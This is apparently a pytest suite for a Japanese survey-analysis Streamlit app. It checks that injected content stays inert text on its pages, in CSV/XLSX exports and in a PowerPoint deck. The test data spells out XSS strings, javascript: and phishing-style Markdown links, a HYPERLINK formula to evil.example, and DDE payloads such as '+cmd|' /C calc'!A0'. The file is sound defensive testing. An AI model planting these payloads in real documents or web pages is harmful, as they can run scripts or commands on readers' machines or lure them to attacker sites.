"""Injection: HTML, Markdown and spreadsheet formulas written in a survey stay inert text.

* Pages: no ``unsafe_allow_html`` (or raw-HTML component) anywhere in app.py,
  pages/ or ui/; on the free-text and gaps pages, comments carrying payloads
  arrive only in ``st.text`` elements, never in Markdown-rendering ones
  (markdown, caption, alerts, expander and tab labels, ...).
* Downloads: the tables behind the export page (``ui.data.export_tables``),
  with formula-like role, wave and item labels, open as text in CSV and XLSX.
* Deck: payloads are literal text in runs; no run or shape carries a
  hyperlink or click action.
"""

from __future__ import annotations

import csv
import io
import random
import re
import sys
from pathlib import Path

import openpyxl
import pytest
from google.protobuf import text_format
from pptx import Presentation
from pptx.enum.action import PP_ACTION
from streamlit.testing.v1 import AppTest
from test_pages import every_tab

ROOT = Path(__file__).resolve().parents[1]
if str(ROOT) not in sys.path:  # ui/ lives at the repository root
    sys.path.insert(0, str(ROOT))

from analysis.deck import build_deck  # noqa: E402
from analysis.schema import load_survey  # noqa: E402
from analysis.spreadsheet import FORMULA_STARTS, csv_bytes, xlsx_bytes  # noqa: E402
from analysis.store import WaveStore  # noqa: E402
from ui import data  # noqa: E402

PAYLOADS = (
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    "**太字**と__下線__",
    "[ここをクリック](javascript:alert(3))",
    '=HYPERLINK("http://evil.example/?q="&A1,"クリック")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
# What would show that a payload was interpreted, or reached a Markdown element.
FRAGMENTS = ("<script>", "onerror=", "**太字**", "](javascript:", "HYPERLINK(", "cmd|", "@SUM(")
SURVEY = "注入テスト"
QUESTION = "AI導入についてご意見をお書きください"
THEMES = (
    "日報の要約に使いたい",
    "議事録の作成を任せたい",
    "マニュアル作成が楽になる",
    "不安がある",
)


def comments_csv() -> bytes:
    """Two roles x two waves, 14 people each: every comment carries one payload."""
    rng = random.Random(7)
    rows = []
    for wave in ("研修前", "研修後"):
        for role in ("管理職", "一般社員"):
            for i in range(14):
                text = f"{THEMES[i % len(THEMES)]}（{role}{i}） {PAYLOADS[i % len(PAYLOADS)]}"
                answer = rng.choice(["そう思う", "どちらともいえない", "そう思わない"])
                rows.append([role, wave, answer, text])
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(["役職", "回答時期", "AIで仕事が楽になると思う", QUESTION])
    writer.writerows(rows)
    return buffer.getvalue().encode()


# --------------------------------------------------------------------------- source


UI_FILES = sorted([ROOT / "app.py", *(ROOT / "pages").glob("*.py"), *(ROOT / "ui").glob("*.py")])


def test_the_ui_files_are_found():
    names = {p.name for p in UI_FILES}
    assert {"app.py", "4_free_text.py", "data.py", "widgets.py"} <= names


@pytest.mark.parametrize("path", UI_FILES, ids=lambda p: p.name)
def test_no_raw_html_anywhere_in_the_ui(path):
    """No raw HTML but one constant style (ui.widgets.HIDE_UPLOAD_SIZE_HINT), never data."""
    source = path.read_text(encoding="utf-8").replace("st.html(widgets.HIDE_UPLOAD_SIZE_HINT)", "")
    for forbidden in ("unsafe_allow_html", "st.html(", "components.html", "components.v1"):
        assert forbidden not in source, f"{path.name}: {forbidden}"


def test_the_one_raw_html_is_a_constant_style():
    from ui import widgets

    hint = widgets.HIDE_UPLOAD_SIZE_HINT
    assert hint.startswith("<style>") and hint.endswith("</style>") and hint.count("<") == 2
    assert "{display: none}" in hint and "{0}" not in hint and "%s" not in hint


# --------------------------------------------------------------------------- pages


def walk(at: AppTest) -> tuple[list[str], str]:
    """``st.text`` values, and everything else on the page (tables excluded) as protobuf text."""
    texts, others = [], []
    for root in (at.main, at.sidebar):
        for node in root:
            if node.type == "text":
                texts.append(node.value)
            elif node.type == "dataframe":
                continue  # cells are shown as text by the grid
            elif getattr(node, "proto", None) is not None:
                others.append(text_format.MessageToString(node.proto, as_utf8=True))
    return texts, "\n".join(others)


def check_page(at: AppTest, shown: list[str]) -> None:
    assert not at.exception, [e.message for e in at.exception]
    texts, others = walk(at)
    leaked = [f for f in FRAGMENTS if f in others]
    assert not leaked, (leaked, others[:3000])
    shown += texts


@pytest.fixture
def stored(data_dir) -> None:
    content = comments_csv()
    schema = load_survey(content, name="comments.csv").schema
    assert schema.free_text == (QUESTION,) and schema.role == "役職"
    WaveStore().save(content, filename="comments.csv", schema=schema, survey=SURVEY)


def test_payloads_reach_pages_only_as_text(stored):
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90).run()
    [picker] = [s for s in at.sidebar.selectbox if SURVEY in s.options]
    picker.set_value(SURVEY).run()
    shown: list[str] = []
    check_page(at, shown)

    at.switch_page("pages/4_free_text.py").run()
    check_page(at, shown)
    for _ in every_tab(at):  # ends on キーワード検索
        check_page(at, shown)
    [search] = [t for t in at.text_input if t.label == "キーワード"]
    for keyword in ("alert", "太字", "javascript", "HYPERLINK", "cmd", "SUM"):
        search.set_value(keyword).run()
        check_page(at, shown)

    at.switch_page("pages/2_gaps.py").run()
    check_page(at, shown)
    [role] = [s for s in at.selectbox if s.label == "役割"]
    for choice in role.options:
        role.set_value(choice).run()
        check_page(at, shown)

    at.switch_page("pages/5_export.py").run()
    check_page(at, shown)
    # Every payload did arrive, whole, in a text element (so the checks above saw real input).
    missing = [p for p in PAYLOADS if not any(p in t for t in shown)]
    assert not missing, missing


def test_the_page_walk_would_see_markdown():
    """Control for ``walk``: a payload written with st.markdown lands outside the text list."""
    script = "import streamlit as st\nst.markdown('**太字**と__下線__')\nst.text('<script>alert(1)</script>')\n"
    at = AppTest.from_string(script).run()
    texts, others = walk(at)
    assert texts == ["<script>alert(1)</script>"]
    assert "**太字**" in others


# Labels are user text too: role and wave values, statements (headers), file names.
LINK = "[ここをクリック](https://phish.example/)"
IMAGE = "![x](https://tracker.example/p.png)"
MARKDOWN_TYPES = {
    "markdown", "caption", "title", "header", "subheader", "warning", "info", "success",
    "error", "expander", "tab", "metric", "alert",
}  # fmt: skip


def labels_csv() -> bytes:
    rng = random.Random(11)
    rows = []
    for wave in ("研修前", f"研修後{IMAGE}"):
        for role in (f"管理職{LINK}", "一般社員", "経営層"):
            for i in range(12):
                answers = [rng.choice(["そう思う", "そう思わない", "とてもそう思う"]) for _ in "ab"]
                rows.append([role, wave, *answers, f"日報の要約に使いたい（{i}）"])
    header = [
        "役職",
        "回答時期",
        f"AIで仕事が楽になると思う{LINK}",
        "相談できる相手がいる",
        QUESTION,
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, *rows])
    return buffer.getvalue().encode()


def markdown_of(at: AppTest) -> list[str]:
    return [
        text_format.MessageToString(node.proto, as_utf8=True)
        for root in (at.main, at.sidebar)
        for node in root
        if node.type in MARKDOWN_TYPES and getattr(node, "proto", None) is not None
    ]


def test_labels_never_become_links_or_images(data_dir):
    content = labels_csv()
    schema = load_survey(content, name="x.csv").schema
    WaveStore().save(content, filename=f"回答{LINK}.csv", schema=schema, survey=SURVEY)
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=90).run()
    [picker] = [s for s in at.sidebar.selectbox if SURVEY in s.options]
    picker.set_value(SURVEY).run()
    seen = []
    for page in ("app.py", "pages/2_gaps.py", "pages/3_trends.py", "pages/6_settings.py"):
        at.switch_page(page).run()
        assert not at.exception, [e.message for e in at.exception]
        seen += markdown_of(at)
    shown = "\n".join(seen)
    assert "phish.example" in shown and "tracker.example" in shown  # the labels are shown...
    assert "](https://" not in shown and "![" not in shown  # ...but as text, escaped


# Issue 16: every Markdown payload at once, in a department, role, wave, statement, survey
# name and file name; each page is read back as the Markdown source Streamlit renders.
EVIL_LINK = "[至急: 再ログイン](https://evil.example/x)"
EVIL_IMAGE = "![x](https://evil.example/i.png)"
EVIL_PARTS = (
    EVIL_LINK,
    EVIL_IMAGE,
    "https://evil.example",
    "www.evil.example",
    "**太字**",
    "$x^2$",
)
EVIL = " ".join(EVIL_PARTS)
# What a renderer would turn into a link, an image, bold or math, once escapes are taken out.
LIVE = ("](", "![", "[至急", "://", "www.", "**太字", "$x")
ESCAPE = re.compile(r"\\[!-/:-@\[-`{-~]")  # CommonMark: a backslash before ASCII punctuation
MARKDOWN_FIELDS = {"body", "label", "help", "placeholder", "caption"}
NOT_MARKDOWN = {"text", "code", "json", "dataframe", "plotly_chart", "exception"}


def hostile_markdown_csv() -> bytes:
    """3 roles x 2 waves of 12; 3 of each group in a department named with every payload."""
    rng = random.Random(16)
    rows = []
    for wave in ("研修前", f"研修後{EVIL}"):
        for role in (f"管理職{EVIL}", "一般社員", "経営層"):
            for i in range(12):
                department = "営業部" if i < 9 else f"開発部{EVIL}"
                answers = [rng.choice(["そう思う", "そう思わない", "とてもそう思う"]) for _ in "ab"]
                text = f"{THEMES[i % len(THEMES)]}（{i}）"
                rows.append([role, department, wave, *answers, text])
    header = [
        "役職",
        "部署",
        "回答時期",
        f"AIで仕事が楽になると思う{EVIL}",
        "相談できる相手がいる",
        QUESTION,
    ]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([header, *rows])
    return buffer.getvalue().encode()


def markdown_sources(at: AppTest) -> list[str]:
    """The Markdown source of every element that renders Markdown: bodies, labels, help."""
    found = []

    def strings(message) -> None:
        for field, value in message.ListFields():
            if field.type == field.TYPE_MESSAGE:
                for part in [value] if hasattr(value, "ListFields") else value:
                    strings(part)
            elif field.name in MARKDOWN_FIELDS and isinstance(value, str):
                found.append(value)

    for root in (at.main, at.sidebar):
        for node in root:
            if node.type not in NOT_MARKDOWN and getattr(node, "proto", None) is not None:
                strings(node.proto)
    return found


def live_markup(source: str) -> list[str]:
    """Payload markup still active in ``source`` (escaped characters and joiners stop it)."""
    active = ESCAPE.sub("", source)
    return [fragment for fragment in LIVE if fragment in active]


def rendered(source: str) -> str:
    """The text a reader sees: escapes resolved, word joiners (U+2060) gone."""
    return re.sub(r"\\([!-/:-@\[-`{-~])", r"\1", source).replace("\u2060", "")


def check_markdown(at: AppTest, seen: list[str]) -> None:
    assert not at.exception, [e.message for e in at.exception]
    for source in markdown_sources(at):
        assert not live_markup(source), (live_markup(source), source)
        seen.append(rendered(source))


def selectbox(at: AppTest, label: str):
    [box] = [s for s in at.selectbox if s.label == label]
    return box


def test_markdown_sources_would_see_live_markup():
    """Control: the same payload unescaped is caught, escaped it is shown whole."""
    script = (
        "import streamlit as st\nfrom ui.widgets import plain\n"
        f"st.info({EVIL!r})\nst.caption(plain({EVIL!r}))\n"
        f"st.expander({EVIL!r})\nst.tabs([plain({EVIL!r})])\n"
    )
    at = AppTest.from_string(script).run()
    raw, caption, expander, tab = markdown_sources(at)
    assert set(live_markup(raw)) == set(LIVE) and set(live_markup(expander)) == set(LIVE)
    assert not live_markup(caption) and not live_markup(tab)
    assert rendered(caption) == EVIL == rendered(tab)


def test_issue16_labels_never_become_links_or_images(data_dir):
    content = hostile_markdown_csv()
    survey_name = f"調査{EVIL}"
    seen: list[str] = []
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120).run()
    at.switch_page("pages/1_upload.py").run()
    at.file_uploader[0].set_value((f"回答{EVIL}.csv", content, "text/csv")).run()
    check_markdown(at, seen)
    [name] = [t for t in at.text_input if t.label == "調査名"]
    name.set_value(survey_name).run()
    [save] = [b for b in at.button if b.label == "保存する"]
    save.click().run()
    check_markdown(at, seen)
    assert "に保存しました" in " ".join(at.success.values)

    for page in (
        "app.py",
        "pages/3_trends.py",
        "pages/4_free_text.py",
        "pages/5_export.py",
        "pages/6_settings.py",
    ):
        at.switch_page(page).run()
        assert at.sidebar.selectbox[0].value == survey_name, page
        check_markdown(at, seen)

    at.switch_page("pages/2_gaps.py").run()
    check_markdown(at, seen)
    for label in ("回答時期", "部署", "役割"):
        options = selectbox(at, label).options
        for option in options:
            selectbox(at, label).set_value(option).run()
            check_markdown(at, seen)
        selectbox(at, label).set_value(options[0]).run()
    # The department all of whose groups are hidden: its name in the 🔒 notice, as text.
    selectbox(at, "部署").set_value(f"開発部{EVIL}").run()
    check_markdown(at, seen)
    [notice] = at.info.values
    assert rendered(notice).startswith(f"開発部{EVIL}は人数が少ない"), notice

    shown = "\n".join(seen)
    for label in (
        f"研修後{EVIL}",
        f"管理職{EVIL}",
        f"回答{EVIL}.csv",
        f"調査{EVIL}",
        f"開発部{EVIL}",
    ):
        assert label in shown, label  # each label did reach a Markdown element, whole


# --------------------------------------------------------------------------- downloads


def hostile_labels_csv() -> bytes:
    """Role, wave and statement labels that a spreadsheet would run as formulas."""
    rng = random.Random(3)
    item = '=HYPERLINK("http://evil.example","AIで仕事が楽になると思う")'
    rows = []
    for wave in ("-研修前", "@研修後"):
        for role in ("+cmd|' /C calc'!A0", "=1+1", "管理職"):
            for _ in range(8):
                rows.append(
                    [role, wave, rng.choice(["そう思う", "そう思わない", "とてもそう思う"])]
                )
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["役職", "回答時期", item], *rows])
    return buffer.getvalue().encode()


@pytest.fixture(scope="module")
def export_tables() -> dict:
    survey = load_survey(hostile_labels_csv(), name="labels.csv")
    assert survey.schema.role == "役職" and len(survey.schema.items) == 1
    tables = data.export_tables(survey, 5)
    assert {"役割別スコア", "役割間ギャップ", "研修前後の変化"} <= set(tables)
    return tables


def number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_downloads_open_as_text(export_tables):
    seen = set()
    for name, table in export_tables.items():
        text = csv_bytes(table).decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS) or number(cell), (name, cell)
                seen.add(cell)
    assert "'=1+1" in seen and "'+cmd|' /C calc'!A0" in seen and "'@研修後" in seen


def test_xlsx_download_holds_no_formula(export_tables):
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(export_tables)))
    seen = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), cell.value
                    seen.add(cell.value)
    assert any(v.startswith("'=HYPERLINK(") for v in seen), sorted(seen)[:20]


# --------------------------------------------------------------------------- deck


@pytest.fixture(scope="module")
def deck() -> Presentation:
    survey = load_survey(comments_csv(), name="comments.csv")
    return Presentation(io.BytesIO(build_deck(survey, min_group=5, min_comments=10)))


def test_deck_payloads_are_literal_text(deck):
    runs = [
        run.text
        for slide in deck.slides
        for shape in slide.shapes
        if shape.has_text_frame
        for paragraph in shape.text_frame.paragraphs
        for run in paragraph.runs
    ]
    quoted = "\n".join(runs)
    assert "<script>alert(1)</script>" in quoted or "<img src=x" in quoted, quoted[:2000]
    assert any(re.search(r"HYPERLINK|cmd\||@SUM|\*\*太字\*\*|javascript:", r) for r in runs)


def test_deck_has_no_hyperlink_or_click_action(deck):
    shapes = runs = 0
    for slide in deck.slides:
        assert b"hlinkClick" not in slide.part.blob and b"hlinkHover" not in slide.part.blob
        for shape in slide.shapes:
            shapes += 1
            action = shape.click_action
            assert action.action == PP_ACTION.NONE and action.hyperlink.address is None
            if shape.has_text_frame:
                for paragraph in shape.text_frame.paragraphs:
                    for run in paragraph.runs:
                        runs += 1
                        assert run.hyperlink.address is None, run.text
    assert shapes > 10 and runs > 10
